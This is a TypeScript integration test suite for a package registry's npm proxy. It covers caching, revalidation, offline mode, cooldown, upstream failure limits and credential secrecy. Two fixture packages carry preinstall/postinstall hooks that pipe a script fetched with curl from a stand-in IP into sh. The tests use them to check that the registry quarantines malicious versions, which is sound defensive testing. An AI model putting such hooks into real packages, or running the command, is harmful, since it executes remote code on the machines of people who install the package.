/**
 * npm remote repositories against a fixture upstream on 127.0.0.1: caching, revalidation, stale
 * and offline answers, the gate on proxied tarballs, cooldown, coalescing, misbehaving upstreams
 * and credentials. Every request goes through the real server over HTTP.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { systemActor } from '../../src/domain/audit.js';
import { startNpmUpstream, type NpmUpstream } from '../helpers/npm-upstream.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

interface Answer {
  status: number;
  headers: Headers;
  json: Record<string, unknown>;
  text: string;
}

describe('npm remote repository', () => {
  let server: TestServer;
  let upstream: NpmUpstream;
  let repoCount = 0;

  async function call(method: string, url: string, options: { body?: unknown; token?: string | null; headers?: Record<string, string> } = {}): Promise<Answer> {
    const headers: Record<string, string> = { ...(options.headers ?? {}) };
    const token = options.token === undefined ? server.adminToken : options.token;
    if (token) headers.authorization = `Bearer ${token}`;
    if (options.body !== undefined) headers['content-type'] = 'application/json';
    const response = await fetch(url, { method, headers, ...(options.body !== undefined ? { body: JSON.stringify(options.body) } : {}) });
    const text = await response.text();
    let json: Record<string, unknown> = {};
    try {
      json = JSON.parse(text) as Record<string, unknown>;
    } catch {
      // a tarball
    }
    return { status: response.status, headers: response.headers, json, text };
  }

  /** A fresh public remote repository of `upstream`; returns its npm registry URL (no trailing slash). */
  async function remoteRepo(settings: Record<string, unknown> = {}): Promise<{ registry: string; path: string }> {
    const name = `remote-${++repoCount}`;
    const created = await call('POST', `${server.url}/api/v1/repos`, {
      body: { owner: 'acme', name, visibility: 'public', kind: 'remote', upstream: { format: 'npm', url: upstream.url, retries: 0, timeoutMs: 3000, ...settings } },
    });
    assert.equal(created.status, 201, created.text);
    assert.equal(created.json.kind, 'remote');
    return { registry: `${server.url}/acme/${name}/npm`, path: `acme/${name}` };
  }

  async function stored(path: string, name: string, filename: string) {
    const [owner, repoName] = path.split('/') as [string, string];
    const repo = await server.domain.repos.get(owner, repoName);
    assert.ok(repo);
    return server.domain.packages.findFile({ repo, format: 'npm', name }, filename);
  }

  before(async () => {
    upstream = await startNpmUpstream();
    server = await startTestServer();
    const admin = await server.domain.accounts.getUser('admin');
    assert.ok(admin);
    await server.domain.accounts.createOrg(systemActor, { name: 'acme', adminUserId: admin.id });
    upstream.add({ name: 'plain', version: '1.0.0', description: 'plain package' });
    upstream.add({ name: 'plain', version: '1.1.0', description: 'plain package' });
    upstream.add({ name: '@scope/thing', version: '2.0.0' });
  });

  after(async () => {
    await server?.close();
    await upstream?.close();
  });

  it('fetches a packument once, serves it from the cache, and rewrites tarball URLs to itself', async () => {
    const { registry } = await remoteRepo();
    const before = upstream.hits('/plain');
    const first = await call('GET', `${registry}/plain`);
    assert.equal(first.status, 200, first.text);
    assert.equal(first.headers.get('x-stockade-upstream'), 'miss');
    const versions = first.json.versions as Record<string, { dist: { tarball: string } }>;
    assert.deepEqual(Object.keys(versions), ['1.0.0', '1.1.0']);
    assert.equal(versions['1.1.0']?.dist.tarball, `${registry}/plain/-/plain-1.1.0.tgz`);
    const second = await call('GET', `${registry}/plain`, { headers: { accept: 'application/vnd.npm.install-v1+json' } });
    assert.equal(second.status, 200);
    assert.equal(second.headers.get('x-stockade-upstream'), 'hit');
    assert.equal(second.headers.get('content-type'), 'application/vnd.npm.install-v1+json');
    assert.deepEqual(second.json['dist-tags'], { latest: '1.1.0' });
    assert.equal(upstream.hits('/plain') - before, 1);
    const tags = await call('GET', `${registry}/-/package/plain/dist-tags`);
    assert.deepEqual(tags.json, { latest: '1.1.0' });
    const latest = await call('GET', `${registry}/plain/latest`);
    assert.equal(latest.json.version, '1.1.0');
    assert.equal((latest.json.dist as { tarball: string }).tarball, `${registry}/plain/-/plain-1.1.0.tgz`);
    assert.equal((await call('GET', `${registry}/plain/9.9.9`)).status, 404);

    const scoped = await call('GET', `${registry}/@scope%2fthing`);
    assert.equal(scoped.status, 200, scoped.text);
    assert.equal((scoped.json['dist-tags'] as Record<string, string>).latest, '2.0.0');
  });

  it('revalidates an expired packument with its ETag', async () => {
    const { registry } = await remoteRepo({ metadataTtlSeconds: 0 });
    assert.equal((await call('GET', `${registry}/plain`)).headers.get('x-stockade-upstream'), 'miss');
    const again = await call('GET', `${registry}/plain`);
    assert.equal(again.status, 200);
    assert.equal(again.headers.get('x-stockade-upstream'), 'revalidated');
    // A changed upstream document replaces the copy this node has parsed and rendered.
    upstream.add({ name: 'plain-moving', version: '1.0.0' });
    assert.equal((await call('GET', `${registry}/plain-moving`)).headers.get('x-stockade-upstream'), 'miss');
    assert.equal((await call('GET', `${registry}/plain-moving`)).headers.get('x-stockade-upstream'), 'revalidated');
    upstream.add({ name: 'plain-moving', version: '1.1.0' });
    const moved = await call('GET', `${registry}/plain-moving`);
    assert.equal(moved.headers.get('x-stockade-upstream'), 'miss');
    assert.deepEqual(Object.keys(moved.json.versions as object), ['1.0.0', '1.1.0']);
    assert.deepEqual(moved.json['dist-tags'], { latest: '1.1.0' });
  });

  it('fetches a tarball once, stores it through the gate, then serves it from storage', async () => {
    const { registry, path } = await remoteRepo();
    const file = '/plain/-/plain-1.0.0.tgz';
    const before = upstream.hits(file);
    const first = await call('GET', `${registry}${file}`);
    assert.equal(first.status, 200, first.text);
    assert.ok(await stored(path, 'plain', 'plain-1.0.0.tgz'));
    const second = await call('GET', `${registry}${file}`);
    assert.equal(second.status, 200);
    assert.equal(second.text, first.text);
    assert.equal(upstream.hits(file) - before, 1);
    const [owner, name] = path.split('/') as [string, string];
    const repo = await server.domain.repos.get(owner, name);
    const pkg = await server.domain.packages.load({ repo: repo!, format: 'npm', name: 'plain' });
    assert.match(pkg?.versions[0]?.publisher ?? '', /^upstream:127\.0\.0\.1:\d+$/);
  });

  it('20 concurrent first requests for one tarball cause one upstream fetch', async () => {
    const { registry } = await remoteRepo();
    await call('GET', `${registry}/plain`);
    const file = '/plain/-/plain-1.1.0.tgz';
    const before = upstream.hits(file);
    const answers = await Promise.all(Array.from({ length: 20 }, () => call('GET', `${registry}${file}`)));
    assert.deepEqual(
      answers.map((a) => a.status),
      Array.from({ length: 20 }, () => 200),
    );
    assert.equal(upstream.hits(file) - before, 1);
  });

  it('serves stale metadata with a warning when the upstream is down, and a clear error when nothing is cached', async () => {
    const { registry } = await remoteRepo({ metadataTtlSeconds: 0 });
    assert.equal((await call('GET', `${registry}/plain`)).status, 200);
    upstream.down = true;
    try {
      const stale = await call('GET', `${registry}/plain`);
      assert.equal(stale.status, 200, stale.text);
      assert.equal(stale.headers.get('x-stockade-upstream'), 'stale');
      assert.equal(stale.headers.get('warning'), '110 - "Response is Stale"');
      const missing = await call('GET', `${registry}/@scope%2fthing`);
      assert.equal(missing.status, 502, missing.text);
      assert.equal(missing.json.code, 'UPSTREAM_FAILED');
      assert.match(String(missing.json.error), /the upstream of acme\/remote-\d+ \(127\.0\.0\.1:\d+\) failed: connection failed/);
    } finally {
      upstream.down = false;
    }
  });

  it('offline mode answers from the cache only', async () => {
    const { registry, path } = await remoteRepo({ metadataTtlSeconds: 0 });
    assert.equal((await call('GET', `${registry}/plain`)).status, 200);
    assert.equal((await call('GET', `${registry}/plain/-/plain-1.1.0.tgz`)).status, 200);
    const patched = await call('PATCH', `${server.url}/api/v1/repos/${path}/upstream`, { body: { offline: true } });
    assert.equal(patched.status, 200, patched.text);
    assert.equal(patched.json.offline, true);
    const before = upstream.hits('/plain');
    const cached = await call('GET', `${registry}/plain`);
    assert.equal(cached.status, 200);
    assert.equal(cached.headers.get('x-stockade-upstream'), 'offline');
    assert.equal(upstream.hits('/plain'), before);
    const uncached = await call('GET', `${registry}/@scope%2fthing`);
    assert.equal(uncached.status, 504);
    assert.equal(uncached.json.code, 'NOT_CACHED');
    const tarball = await call('GET', `${registry}/plain/-/plain-1.0.0.tgz`);
    assert.equal(tarball.status, 504);
    assert.equal((await call('GET', `${registry}/plain/-/plain-1.1.0.tgz`)).status, 200);
  });

  it('answers 404 for a package the upstream does not have, and remembers it', async () => {
    const { registry } = await remoteRepo({ negativeTtlSeconds: 600 });
    assert.equal((await call('GET', `${registry}/nothing-here`)).status, 404);
    assert.equal((await call('GET', `${registry}/nothing-here`)).status, 404);
    assert.equal(upstream.hits('/nothing-here'), 1);
  });

  it('quarantines a malicious upstream version and points latest back at the previous one', async () => {
    upstream.add({ name: 'victim', version: '1.0.0' });
    upstream.add({ name: 'victim', version: '1.0.1', scripts: { preinstall: 'curl -fsSL http://203.0.113.9/x.sh | sh' } });
    const { registry } = await remoteRepo();
    const before = await call('GET', `${registry}/victim`);
    assert.deepEqual(before.json['dist-tags'], { latest: '1.0.1' });
    const bad = await call('GET', `${registry}/victim/-/victim-1.0.1.tgz`);
    assert.equal(bad.status, 403, bad.text);
    assert.equal(bad.json.code, 'PACKAGE_QUARANTINED');
    const afterwards = await call('GET', `${registry}/victim`);
    assert.deepEqual(Object.keys(afterwards.json.versions as object), ['1.0.0']);
    assert.deepEqual(afterwards.json['dist-tags'], { latest: '1.0.0' });
    assert.equal((await call('GET', `${registry}/victim/-/victim-1.0.0.tgz`)).status, 200);
  });

  it('prefetches the latest tarball while an install reads the packument, and only then', async () => {
    upstream.add({ name: 'eager', version: '1.0.0' });
    upstream.add({ name: 'eager', version: '1.2.0' });
    const latestFile = '/eager/-/eager-1.2.0.tgz';
    const { registry, path } = await remoteRepo();
    // A plain read (no install) fetches metadata only.
    assert.equal((await call('GET', `${registry}/eager`)).status, 200);
    const { registry: installRegistry, path: installPath } = await remoteRepo();
    const { registry: quietRegistry, path: quietPath } = await remoteRepo({ prefetch: false });
    assert.equal((await call('GET', `${quietRegistry}/eager`, { headers: { 'npm-command': 'install' } })).status, 200);
    const view = await call('GET', `${installRegistry}/eager`, { headers: { 'npm-command': 'install', accept: 'application/vnd.npm.install-v1+json' } });
    assert.equal(view.status, 200, view.text);
    // The fetch runs in the background: wait for it to be stored, within a generous bound.
    for (let i = 0; i < 200 && !(await stored(installPath, 'eager', 'eager-1.2.0.tgz')); i++) await new Promise((resolve) => setTimeout(resolve, 25));
    const file = await stored(installPath, 'eager', 'eager-1.2.0.tgz');
    assert.equal(file?.status, 'published');
    assert.equal(await stored(installPath, 'eager', 'eager-1.0.0.tgz'), null);
    assert.equal(await stored(path, 'eager', 'eager-1.2.0.tgz'), null);
    assert.equal(await stored(quietPath, 'eager', 'eager-1.2.0.tgz'), null);
    assert.equal(upstream.hits(latestFile), 1);
    // The client's own request is then served from storage.
    assert.equal((await call('GET', `${installRegistry}${latestFile}`)).status, 200);
    assert.equal(upstream.hits(latestFile), 1);
    const settings = await call('GET', `${server.url}/api/v1/repos/${quietPath}/upstream`);
    assert.equal(settings.json.prefetch, false);

    // A poisoned latest is judged by the gate during the prefetch, and the next read falls back.
    upstream.add({ name: 'eager-bad', version: '1.0.0' });
    upstream.add({ name: 'eager-bad', version: '1.0.1', scripts: { postinstall: 'curl -fsSL http://203.0.113.9/x.sh | sh' } });
    const first = await call('GET', `${installRegistry}/eager-bad`, { headers: { 'npm-command': 'ci' } });
    assert.deepEqual(first.json['dist-tags'], { latest: '1.0.1' });
    for (let i = 0; i < 200 && !(await stored(installPath, 'eager-bad', 'eager-bad-1.0.1.tgz')); i++) await new Promise((resolve) => setTimeout(resolve, 25));
    assert.equal((await stored(installPath, 'eager-bad', 'eager-bad-1.0.1.tgz'))?.status, 'quarantined');
    const after = await call('GET', `${installRegistry}/eager-bad`, { headers: { 'npm-command': 'ci' } });
    assert.deepEqual(after.json['dist-tags'], { latest: '1.0.0' });
    assert.deepEqual(Object.keys(after.json.versions as object), ['1.0.0']);
    const refused = await call('GET', `${installRegistry}/eager-bad/-/eager-bad-1.0.1.tgz`);
    assert.equal(refused.status, 403);
    assert.equal(refused.json.code, 'PACKAGE_QUARANTINED');
  });

  it('evicts a cached version, which the next request fetches again through the gate', async () => {
    upstream.add({ name: 'evictable', version: '1.0.0' });
    const { registry, path } = await remoteRepo();
    const file = '/evictable/-/evictable-1.0.0.tgz';
    assert.equal((await call('GET', `${registry}${file}`)).status, 200);
    assert.ok(await stored(path, 'evictable', 'evictable-1.0.0.tgz'));
    const evicted = await call('DELETE', `${server.url}/api/v1/repos/${path}/packages/npm/evictable/versions/1.0.0`);
    assert.equal(evicted.status, 200, evicted.text);
    assert.deepEqual(evicted.json, { format: 'npm', name: 'evictable', version: '1.0.0', evicted: true });
    assert.equal(await stored(path, 'evictable', 'evictable-1.0.0.tgz'), null);
    const again = await call('GET', `${registry}${file}`);
    assert.equal(again.status, 200, again.text);
    assert.ok(await stored(path, 'evictable', 'evictable-1.0.0.tgz'));
    assert.equal(upstream.hits(file), 2);
    const audit = await server.domain.db.selectFrom('audit_log').select(['action', 'target']).where('action', '=', 'package.evict').execute();
    assert.ok(audit.some((row) => row.target.includes('evictable')), JSON.stringify(audit));
    assert.equal((await call('DELETE', `${server.url}/api/v1/repos/${path}/packages/npm/evictable/versions/9.9.9`)).status, 404);
    // Hosted versions are not a cache: they are yanked or unpublished with the format's client.
    const hosted = await call('POST', `${server.url}/api/v1/repos`, { body: { owner: 'acme', name: 'evict-hosted', visibility: 'public' } });
    assert.equal(hosted.status, 201, hosted.text);
    const refused = await call('DELETE', `${server.url}/api/v1/repos/acme/evict-hosted/packages/npm/evictable/versions/1.0.0`);
    assert.equal(refused.status, 405, refused.text);
    assert.equal((refused.json.error as { code?: string } | undefined)?.code, 'NOT_A_CACHE');
  });

  it('hides versions younger than the cooldown unless allow-listed', async () => {
    upstream.add({ name: 'fresh', version: '1.0.0' });
    upstream.add({ name: 'fresh', version: '1.1.0' }, { publishedAt: new Date().toISOString() });
    const { registry, path } = await remoteRepo({ cooldownHours: 72 });
    const hidden = await call('GET', `${registry}/fresh`);
    assert.deepEqual(Object.keys(hidden.json.versions as object), ['1.0.0']);
    assert.deepEqual(hidden.json['dist-tags'], { latest: '1.0.0' });
    assert.equal((await call('GET', `${registry}/fresh/-/fresh-1.1.0.tgz`)).status, 403);
    const patched = await call('PATCH', `${server.url}/api/v1/repos/${path}/upstream`, { body: { cooldownAllow: ['fresh@1.1.0'] } });
    assert.equal(patched.status, 200, patched.text);
    const shown = await call('GET', `${registry}/fresh`);
    assert.deepEqual(Object.keys(shown.json.versions as object), ['1.0.0', '1.1.0']);
    assert.deepEqual(shown.json['dist-tags'], { latest: '1.1.0' });
  });

  for (const [mode, expected] of [
    ['wrong-checksum', /does not match the checksum/],
    ['truncated', /truncated|connection broke/],
    ['endless', /exceeds the limit of 65536 bytes/],
  ] as const) {
    it(`refuses a tarball with ${mode} and stores nothing`, async () => {
      const name = `bad-${mode}`;
      upstream.add({ name, version: '1.0.0' }, { mode });
      const { registry, path } = await remoteRepo({ maxFileBytes: 65536 });
      const answer = await call('GET', `${registry}/${name}/-/${name}-1.0.0.tgz`);
      assert.equal(answer.status, 502, answer.text);
      assert.equal(answer.json.code, 'UPSTREAM_FAILED');
      assert.match(String(answer.json.error), expected);
      assert.equal(await stored(path, name, `${name}-1.0.0.tgz`), null);
    });
  }

  it('gives up on a stalled tarball after the timeout and stores nothing', async () => {
    upstream.add({ name: 'stalls', version: '1.0.0' }, { mode: 'stall' });
    const { registry, path } = await remoteRepo({ timeoutMs: 500 });
    const answer = await call('GET', `${registry}/stalls/-/stalls-1.0.0.tgz`);
    assert.equal(answer.status, 504, answer.text);
    assert.equal(answer.json.code, 'UPSTREAM_TIMEOUT');
    assert.equal(await stored(path, 'stalls', 'stalls-1.0.0.tgz'), null);
  });

  it('refuses a packument over the metadata limit and caches nothing', async () => {
    upstream.add({ name: 'huge', version: '1.0.0' });
    upstream.bloat('huge', 300_000);
    const { registry } = await remoteRepo({ maxMetadataBytes: 100_000 });
    const answer = await call('GET', `${registry}/huge`);
    assert.equal(answer.status, 502, answer.text);
    assert.match(String(answer.json.error), /over the limit of 100000/);
    const rows = await server.domain.db.selectFrom('remote_metadata').select('name').where('name', '=', 'huge').execute();
    assert.deepEqual(rows, []);
  });

  it('sends upstream credentials only in the Authorization header and never shows them', async () => {
    const { registry, path } = await remoteRepo({ token: 'upstream-secret-123' });
    upstream.authorizations.length = 0;
    assert.equal((await call('GET', `${registry}/plain`)).status, 200);
    assert.deepEqual(upstream.authorizations, ['Bearer upstream-secret-123']);
    const shown = await call('GET', `${server.url}/api/v1/repos/${path}/upstream`);
    assert.equal(shown.status, 200);
    assert.equal(shown.json.hasCredentials, true);
    assert.doesNotMatch(shown.text, /upstream-secret-123/);
    const audit = await server.domain.db.selectFrom('audit_log').select('details').execute();
    assert.ok(audit.every((row) => !row.details.includes('upstream-secret-123')));
    const sealed = await server.domain.db.selectFrom('remote_upstreams').select('credentials_sealed').execute();
    assert.ok(sealed.every((row) => !String(row.credentials_sealed).includes('upstream-secret-123')));
  });

  it('refuses publishing and tag changes, and rejects bad upstream settings', async () => {
    const { registry } = await remoteRepo();
    const publish = await call('PUT', `${registry}/plain`, { body: { name: 'plain', versions: {}, _attachments: { a: {} } } });
    assert.equal(publish.status, 405);
    assert.equal(publish.json.code, 'REMOTE_READ_ONLY');
    const tag = await call('PUT', `${registry}/-/package/plain/dist-tags/beta`, { body: '1.0.0' });
    assert.equal(tag.status, 405);
    const [owner, name] = registry.replace(`${server.url}/`, '').split('/') as [string, string];
    const upload = await fetch(`${server.url}/api/v1/repos/${owner}/${name}/upload?filename=plain-9.0.0.tgz`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${server.adminToken}`, 'content-type': 'application/octet-stream' },
      body: Buffer.from('not read'),
    });
    assert.equal(upload.status, 405, await upload.text());
    // Nor do the other formats' own upload protocols write into it.
    const form = new FormData();
    form.append(':action', 'file_upload');
    form.append('content', new Blob([Buffer.from('not read')]), 'plain-1.0-py3-none-any.whl');
    const twine = await fetch(`${server.url}/${owner}/${name}/pypi/legacy/`, { method: 'POST', headers: { authorization: `Bearer ${server.adminToken}` }, body: form });
    assert.equal(twine.status, 405, await twine.text());
    assert.equal(twine.headers.get('x-stockade-error'), 'REMOTE_READ_ONLY');
    const gemPush = await fetch(`${server.url}/${owner}/${name}/rubygems/api/v1/gems`, {
      method: 'POST',
      headers: { authorization: server.adminToken, 'content-type': 'application/octet-stream' },
      body: Buffer.from('not read'),
    });
    assert.equal(gemPush.status, 405, await gemPush.text());
    assert.equal(gemPush.headers.get('x-stockade-error'), 'REMOTE_READ_ONLY');
    for (const upstreamSettings of [
      { format: 'npm', url: 'ftp://127.0.0.1/' },
      { format: 'npm', url: 'http://user:pw@127.0.0.1/' },
      { format: 'npm', url: upstream.url, timeoutMs: 5 },
      { format: 'nuget', url: upstream.url },
    ]) {
      const answer = await call('POST', `${server.url}/api/v1/repos`, { body: { owner: 'acme', name: `bad-${++repoCount}`, kind: 'remote', upstream: upstreamSettings } });
      assert.equal(answer.status, 400, `${JSON.stringify(upstreamSettings)}: ${answer.text}`);
      assert.doesNotMatch(answer.text, /pw@/);
    }
  });
});

describe('npm remote repository on two nodes', () => {
  let first: TestServer;
  let second: TestServer;
  let upstream: NpmUpstream;

  before(async () => {
    upstream = await startNpmUpstream();
    first = await startTestServer();
    second = await startTestServer({}, { sameStorageAs: first });
    const admin = await first.domain.accounts.getUser('admin');
    assert.ok(admin);
    await first.domain.accounts.createOrg(systemActor, { name: 'acme', adminUserId: admin.id });
    upstream.add({ name: 'shared', version: '1.0.0' });
  });

  after(async () => {
    await second?.close();
    await first?.close();
    await upstream?.close();
  });

  it('concurrent first requests on both nodes cause one upstream fetch', async () => {
    const created = await fetch(`${first.url}/api/v1/repos`, {
      method: 'POST',
      headers: { authorization: `Bearer ${first.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ owner: 'acme', name: 'mirror', visibility: 'public', kind: 'remote', upstream: { format: 'npm', url: upstream.url, retries: 0 } }),
    });
    assert.equal(created.status, 201, await created.text());
    const file = '/shared/-/shared-1.0.0.tgz';
    const answers = await Promise.all(
      Array.from({ length: 20 }, (_, i) => fetch(`${(i % 2 ? second : first).url}/acme/mirror/npm${file}`).then(async (r) => ({ status: r.status, size: (await r.arrayBuffer()).byteLength }))),
    );
    assert.ok(
      answers.every((a) => a.status === 200 && a.size > 0),
      JSON.stringify(answers),
    );
    assert.equal(upstream.hits(file), 1);
  });
});
